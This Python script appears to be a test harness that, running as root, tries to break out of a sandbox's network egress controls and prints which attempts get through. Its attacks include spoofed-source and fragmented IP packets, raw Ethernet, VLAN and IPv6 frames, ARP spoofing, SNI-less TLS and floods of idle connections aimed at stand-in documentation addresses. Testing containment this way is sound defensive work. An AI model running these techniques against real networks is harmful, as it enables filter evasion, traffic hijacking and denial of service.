"""Tries to get out of a sandbox, as root. Each attack is a call of its own; what
reaches the world is seen there. It prints what it believes to have achieved."""
import os, random, resource, select, socket, ssl, struct, sys, threading, time

EVIL = "203.0.113.66"
socket.setdefaulttimeout(1.5)


def answer(s):
    """What comes until the end, or until nothing more does."""
    got = b""
    while len(got) < 1000:
        try:
            part = s.recv(1000)
        except OSError:
            if not got:
                raise
            break
        if not part:
            break
        got += part
    return got


def tcp(host, port, send=b"GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"):
    with socket.create_connection((host, port)) as s:
        s.sendall(send)
        return answer(s)


def tls(host, name, request_host=None):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((host, 443)) as raw:
        with context.wrap_socket(raw, server_hostname=name) as s:
            s.sendall(f"GET / HTTP/1.1\r\nHost: {request_host or name}\r\nConnection: close\r\n\r\n".encode())
            return answer(s)


def http(host, name):
    return tcp(host, 80, f"GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())


def udp(host, port, data=b"out", family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.connect((host, port))
        for _ in range(3):
            s.send(data)
        return s.recv(1000)


def question(name, kind=16):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def query(host, name, kind=16):
    answer = udp(host, 53, question(name, int(kind)))
    code, answers = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
    if code == 0 and answers:
        return b"%d answers" % answers
    raise OSError(f"rcode {code}, {answers} answers")


def checksum(b):
    n = sum(struct.unpack(f">{len(b) // 2}H", b))
    n = (n >> 16) + (n & 0xFFFF)
    return ~(n + (n >> 16)) & 0xFFFF


def ip(src, dst, proto, payload, ident=7, frag=0):
    h = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, frag, 64, proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack(">H", checksum(h)) + h[12:] + payload


def own():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((EVIL, 9))
        return s.getsockname()[0]


def raw(packets):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for p in packets:
            s.sendto(p, (socket.inet_ntoa(p[16:20]), 0))
    return b"sent"


def icmp(host):
    body = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"out of here!"
    body = body[:2] + struct.pack(">H", checksum(body)) + body[4:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        for _ in range(3):
            s.sendto(body, (host, 0))
        while True:
            data, peer = s.recvfrom(1000)
            if data[20] == 0 and peer[0] == host:
                return b"echo reply"


def udp_bytes(data, port=9999):
    return struct.pack(">HHHH", 4000, port, 8 + len(data), 0) + data


def frames(list):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("eth0", 0))
        for f in list:
            s.send(f)
    return b"sent"


def macs():
    return b"\x02\x73" + socket.inet_aton(own()), b"\x02\x73" + socket.inet_aton(gateway())


def gateway():
    a = own().split(".")
    return ".".join(a[:3] + [str(int(a[3]) - 1)])


def arp(op, sha, spa, tpa):
    return b"\xff" * 6 + sha + struct.pack(">HHHBBH", 0x806, 1, 0x800, 6, 4, op) + sha + socket.inet_aton(spa) + b"\0" * 6 + socket.inet_aton(tpa)


def many(n):
    held, refused = [], 0
    def dial():
        nonlocal refused
        try:
            s = socket.create_connection(("203.0.113.10", 443), 3)
            held.append(s)  # says nothing: a slow client
        except OSError:
            refused += 1
    for _ in range(n // 200):
        threads = [threading.Thread(target=dial) for _ in range(200)]
        [t.start() for t in threads]
        [t.join() for t in threads]
    return b"%d held, %d refused" % (len(held), refused)


def crowd(n, host, port):
    """Opens n connections that say nothing, tells how many there are, and holds
    them until it is told to let go."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (n + 100, n + 100))
    poll, waiting, all = select.poll(), {}, []
    refused = 0

    def settle(wait):
        nonlocal refused
        for fd, _ in poll.poll(wait):
            poll.unregister(fd)
            s = waiting.pop(fd)
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                refused += 1
                s.close()
            else:
                all.append(s)

    for _ in range(n):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex((host, port))
        waiting[s.fileno()] = s
        poll.register(s, select.POLLOUT)
        if len(waiting) >= 200:
            settle(5)  # some are never answered
    for _ in range(30):
        if waiting:
            settle(100)
    refused += len(waiting)
    held = []
    for s in all:
        try:
            s.recv(1)
            refused += 1
        except BlockingIOError:
            held.append(s)
        except OSError:
            refused += 1
    with open("/tmp/crowd.new", "w") as f:
        f.write(f"{len(held)} {refused}")
    os.rename("/tmp/crowd.new", "/tmp/crowd")
    while not os.path.exists("/tmp/release"):
        time.sleep(0.05)
    return b"released"


ATTACKS = {
    "tcp": lambda h, p: tcp(h, int(p)), "tls": tls, "http": http, "udp": lambda h, p: udp(h, int(p)), "query": query, "icmp": icmp,
    "no-sni": lambda h: tls(h, None, "allowed.test"),
    "tcp6": lambda h, p: tcp(h, int(p)), "udp6": lambda h, p: udp(h, int(p), family=socket.AF_INET6),
    "spoof": lambda src: raw([ip(src, EVIL, 17, udp_bytes(b"spoofed"))] * 3),
    "spoof-allowed": lambda src: raw([ip(src, "203.0.113.77", 17, udp_bytes(b"spoofed"))] * 3),
    "fragments": lambda: raw([ip(own(), EVIL, 17, udp_bytes(b"x" * 24)[:16], 9, 0x2000), ip(own(), EVIL, 17, b"x" * 16, 9, 2)]),
    "tiny-fragments": lambda: raw([ip(own(), EVIL, 6, struct.pack(">HHI", 4000, 8080, 1), 11, 0x2000), ip(own(), EVIL, 6, struct.pack(">IBBHHH", 0, 0x50, 2, 1000, 0, 0), 11, 1)]),
    "protocols": lambda: raw([ip(own(), EVIL, p, b"x" * 40) for p in (2, 4, 41, 47, 50, 89, 132, 136)]),
    "frame": lambda: frames([macs()[1] + macs()[0] + b"\x08\x00" + ip(own(), EVIL, 17, udp_bytes(b"frame"))] * 3),
    "frame6": lambda: frames([macs()[1] + macs()[0] + b"\x86\xdd" + struct.pack(">IHBB", 6 << 28, 12, 17, 64) + socket.inet_pton(socket.AF_INET6, "2001:db8::bad") + socket.inet_pton(socket.AF_INET6, "2001:db8::2") + udp_bytes(b"six!")] * 3),
    "vlan": lambda: frames([macs()[1] + macs()[0] + b"\x81\x00\x00\x01\x08\x00" + ip(own(), EVIL, 17, udp_bytes(b"vlan"))] * 3),
    "arp": lambda *ips: frames([arp(op, macs()[0], i, own()) for i in ips for op in (1, 2)] * 3),
    "many": lambda n: many(int(n)), "crowd": lambda n, h, p: crowd(int(n), h, int(p)),
}

def judged(answer):
    """The proxy answers what it does not let out."""
    if b"\r\n\r\negress: " in answer:
        raise OSError(answer.splitlines()[-1].decode())
    return answer


try:
    print(f"OPEN {judged(ATTACKS[sys.argv[1]](*sys.argv[2:]))!r}")
except (OSError, KeyError, ValueError, IndexError) as e:
    print(f"blocked {type(e).__name__}: {e}")
